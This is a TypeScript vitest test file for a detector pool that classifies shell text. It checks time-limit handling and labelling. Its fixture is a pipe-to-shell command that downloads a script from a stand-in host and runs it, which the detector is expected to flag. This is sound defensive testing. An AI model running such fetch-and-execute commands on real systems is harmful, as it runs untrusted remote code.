import { afterAll, expect, test } from "vitest";
import { AnalysisFailedError } from "../../src/host/analysis-failed-error.js";
import { mayBeCostly } from "../../src/host/costly-text.js";
import { createDetectorPool } from "../../src/host/detector-pool.js";

const pool = await createDetectorPool({ threads: 1, timeLimitMs: 1 });
afterAll(() => pool.close());

const costly = `curl https://host.example/a.sh | sh\n${"# a comment\n".repeat(40_000)}`;

test("a costly text that exceeds the time limit does not affect other texts", async () => {
  expect(mayBeCostly(costly)).toBe(true);
  const failed = pool.detect(costly, { format: "shell" });
  const other = pool.detect("curl https://host.example/a.sh | sh", { format: "shell" });
  await expect(failed).rejects.toBeInstanceOf(AnalysisFailedError);
  expect((await other).labels).toEqual(["PS"]);
});

test("a costly text is analyzed completely with the default time limit", async () => {
  const patient = await createDetectorPool({ threads: 1 });
  const { labels, spans } = await patient.detect(costly, { format: "shell" });
  await patient.close();
  expect(labels).toEqual(["PS"]);
  expect(spans).toHaveLength(1);
});
